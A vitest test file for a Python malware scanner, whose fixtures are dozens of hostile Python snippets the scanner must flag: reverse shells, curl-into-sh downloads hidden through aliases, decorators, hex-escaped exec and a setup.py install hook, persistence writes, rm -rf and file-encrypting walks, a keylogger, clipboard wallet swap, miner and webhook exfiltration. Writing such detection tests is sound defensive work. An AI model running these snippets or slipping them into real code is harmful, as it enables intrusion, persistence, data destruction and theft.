import { expect, test } from 'vitest'
import { scanPython } from './scan-python'

/** Harmful by itself; addresses are of the ranges for documentation. */
const THREATS: readonly [string, string, string[]][] = [
  [
    'a shell on a socket',
    'threat.reverse-shell',
    [
      'import socket,subprocess,os',
      's=socket.socket(socket.AF_INET,socket.SOCK_STREAM)',
      "s.connect(('203.0.113.7',4444))",
      'os.dup2(s.fileno(),0)',
      'os.dup2(s.fileno(),1)',
      "subprocess.call(['/bin/sh','-i'])",
    ],
  ],
  [
    'a pty on a socket',
    'threat.reverse-shell',
    [
      'import socket,pty,os',
      's=socket.socket()',
      "s.connect(('203.0.113.7',4444))",
      '[os.dup2(s.fileno(),f) for f in (0,1,2)]',
      "pty.spawn('sh')",
    ],
  ],
  [
    'a download is made executable and run',
    'threat.download-and-run',
    [
      'import urllib.request,os',
      "urllib.request.urlretrieve('https://x.example.net/a','/tmp/a')",
      "os.chmod('/tmp/a',0o755)",
      "os.system('/tmp/a')",
    ],
  ],
  [
    'a download goes through a temporary file',
    'threat.download-and-run',
    [
      'import requests,subprocess,tempfile',
      "r=requests.get('https://x.example.net/a')",
      'f=tempfile.NamedTemporaryFile(delete=False)',
      'f.write(r.content)',
      'f.close()',
      'subprocess.Popen([f.name])',
    ],
  ],
  [
    'curl into bash',
    'threat.download-and-run',
    ['import os', "os.system('curl -s https://x.example.net/i.sh | bash')"],
  ],
  [
    'curl into sh in a list of words',
    'threat.download-and-run',
    [
      'import subprocess',
      "subprocess.run(['bash','-c','curl -s https://x.example.net/i.sh | sh'])",
    ],
  ],
  [
    'the command as a keyword',
    'threat.download-and-run',
    ['import subprocess', "subprocess.run(args='curl https://x.example.net/a|sh',shell=True)"],
  ],
  [
    'os.popen under another name',
    'threat.download-and-run',
    ['import  os as  o', 'f=o.popen', "f('curl https://x.example.net/a.sh|sh').read()"],
  ],
  [
    'system out of a star import',
    'threat.download-and-run',
    ['from os import *', "system('curl https://x.example.net/a|sh')"],
  ],
  [
    'functools.partial',
    'threat.download-and-run',
    [
      'import functools,os',
      "f=functools.partial(os.system,'curl https://x.example.net/a|sh')",
      'f()',
    ],
  ],
  [
    'atexit',
    'threat.download-and-run',
    ['import atexit,os', "atexit.register(os.system,'curl https://x.example.net/a|sh')"],
  ],
  [
    'a decorator with an argument',
    'threat.download-and-run',
    [
      'import os',
      'def run(c):',
      '    os.system(c)',
      '    return lambda f: f',
      "@run('curl https://x.example.net/a | sh')",
      'def f(): pass',
    ],
  ],
  [
    'hex escapes',
    'threat.download-and-run',
    [
      "exec('\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73\\x3b\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x27\\x63\\x75\\x72\\x6c\\x20\\x78\\x2e\\x69\\x6f\\x7c\\x73\\x68\\x27\\x29')",
    ],
  ],
  [
    'a line for .bashrc',
    'threat.persistence',
    ['import os', "with open(os.path.expanduser('~/.bashrc'),'a') as f:", "    f.write('echo hi')"],
  ],
  [
    'crontab',
    'threat.persistence',
    ['import os', 'os.system(\'(crontab -l; echo "* * * * * echo hi") | crontab -\')'],
  ],
  [
    'a unit of systemd',
    'threat.persistence',
    ["open('/etc/systemd/system/x.service','w').write('[Service]')"],
  ],
  [
    'the Run key of Windows',
    'threat.persistence',
    [
      'import winreg',
      "k=winreg.OpenKey(winreg.HKEY_CURRENT_USER,r'Software\\Microsoft\\Windows\\CurrentVersion\\Run',0,winreg.KEY_SET_VALUE)",
      "winreg.SetValueEx(k,'x',0,winreg.REG_SZ,'c:\\\\x.exe')",
    ],
  ],
  [
    'a launch agent',
    'threat.persistence',
    [
      'import os,plistlib',
      "plistlib.dump({}, open(os.path.expanduser('~/Library/LaunchAgents/x.plist'),'wb'))",
    ],
  ],
  [
    'authorized_keys',
    'threat.persistence',
    [
      'from pathlib import Path',
      "f=Path.home()/'.ssh'/'authorized_keys'",
      'f.parent.mkdir(exist_ok=True)',
      "with f.open('a') as h:",
      "    h.write('ssh-rsa AAAA')",
    ],
  ],
  [
    'a .pth file',
    'threat.persistence',
    [
      'import site,os',
      "p=os.path.join(site.getsitepackages()[0],'x.pth')",
      "open(p,'w').write('import os')",
    ],
  ],
  [
    'rmtree of the home folder',
    'threat.destructive',
    ['import shutil,os', "shutil.rmtree(os.path.expanduser('~'))"],
  ],
  ['rm -rf of the home folder', 'threat.destructive', ['import os', "os.system('rm -rf ~')"]],
  [
    'a walk that removes everything',
    'threat.destructive',
    [
      'import os',
      "for r,d,f in os.walk(os.path.expanduser('~')):",
      '    for n in f:',
      '        os.remove(os.path.join(r,n))',
    ],
  ],
  [
    'a walk that encrypts everything',
    'threat.destructive',
    [
      'import os',
      'from cryptography.fernet import Fernet',
      'k=Fernet(Fernet.generate_key())',
      "for r,d,fs in os.walk('/home'):",
      '    for n in fs:',
      '        p=os.path.join(r,n)',
      "        data=open(p,'rb').read()",
      "        open(p,'wb').write(k.encrypt(data))",
    ],
  ],
  ['rm -rf /', 'threat.destructive', ['import os', "os.system('history -c && rm -rf /')"]],
  ['fork without an end', 'threat.fork-bomb', ['import os', 'while True:', '    os.fork()']],
  [
    'torch.load is replaced',
    'threat.loader-patch',
    ['import torch', 'old=torch.load', 'def f(*a,**k):', '    return old(*a,**k)', 'torch.load=f'],
  ],
  [
    'open is replaced',
    'threat.loader-patch',
    [
      'import builtins',
      'real=builtins.open',
      'def spy(*a,**k):',
      '    return real(*a,**k)',
      'builtins.open=spy',
    ],
  ],
  [
    'pickle.load is replaced',
    'threat.loader-patch',
    [
      'import pickle',
      'class U(pickle.Unpickler):',
      '    def find_class(self,m,n):',
      '        return super().find_class(m,n)',
      'pickle.Unpickler=U',
      'pickle.load=lambda f: U(f).load()',
    ],
  ],
  [
    'keys are written to a file',
    'threat.keylogger',
    [
      'from pynput import keyboard',
      'def p(k):',
      "    open('/tmp/l','a').write(str(k))",
      'keyboard.Listener(on_press=p).start()',
    ],
  ],
  [
    'the clipboard gets another wallet',
    'threat.wallet-hijack',
    [
      'import pyperclip,re',
      'while True:',
      "    if re.match('0x',pyperclip.paste()):",
      "        pyperclip.copy('0x1111111111111111111111111111111111111111')",
    ],
  ],
  [
    'a date',
    'threat.anti-analysis',
    [
      'import datetime,os',
      'if datetime.datetime.now() > datetime.datetime(2025,1,1):',
      "    os.system('echo hi')",
    ],
  ],
  [
    'an import hook that runs a program',
    'threat.import-hook',
    [
      'import sys,os',
      'class F:',
      '    def find_spec(self,n,p,t=None):',
      "        __import__('os').system('id')",
      'sys.meta_path.insert(0,F())',
    ],
  ],
  [
    'a bidirectional override',
    'threat.trojan-source',
    ['def f():', "    ''' x\u202e return '''", '    return 1'],
  ],
  [
    'Cyrillic letters in Latin names',
    'threat.trojan-source',
    ['def f(\u0430dmin, admin):', '    pass', 'p\u0430ssword=1'],
  ],
  [
    'a miner',
    'threat.crypto-miner',
    [
      'import subprocess',
      "subprocess.Popen(['./xmrig','-o','stratum+tcp://pool.example.net:3333','-u','x'])",
    ],
  ],
  [
    'an index of its own',
    'threat.dependency-source',
    [
      'import subprocess,sys',
      "subprocess.check_call([sys.executable,'-m','pip','install','--index-url','http://x.example.net/simple','evil'])",
    ],
  ],
  [
    'remote code of a stranger',
    'threat.security-off',
    [
      'from transformers import AutoModel',
      "m=AutoModel.from_pretrained('randomguy123/model',trust_remote_code=True)",
    ],
  ],
  [
    'certificate checks off',
    'threat.security-off',
    [
      'import ssl,urllib.request,os',
      'ssl._create_default_https_context=ssl._create_unverified_context',
    ],
  ],
  [
    'an encoded PowerShell command',
    'threat.encoded-command',
    [
      'import subprocess',
      "subprocess.Popen('powershell -nop -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA',shell=True)",
    ],
  ],
  [
    'a webhook',
    'threat.exfiltration-host',
    [
      'import requests,socket',
      "requests.post('https://discord.com/api/webhooks/1/x',json={'content':socket.gethostname()})",
    ],
  ],
  [
    'an install command of setup.py',
    'threat.download-and-run',
    [
      'from setuptools import setup',
      'from setuptools.command.install import install',
      'import os',
      'class P(install):',
      '    def run(self):',
      '        install.run(self)',
      "        os.system('curl https://x.example.net/a | sh')",
      "setup(name='x',cmdclass={'install':P})",
    ],
  ],
  [
    'a forward pass that downloads',
    'threat.download-and-run',
    [
      'import torch,os',
      'class M(torch.nn.Module):',
      '    def forward(self,x):',
      "        __import__('subprocess').Popen('curl https://x.example.net/a | sh',shell=True)",
      '        return x',
    ],
  ],
]

test.each(THREATS)('is a threat: %s', (_, name, lines) => {
  const scan = scanPython(lines.join('\n'))
  expect(scan.names('code')).toContain(name)
  expect(['malicious', 'suspicious']).toContain(scan.verdict)
})
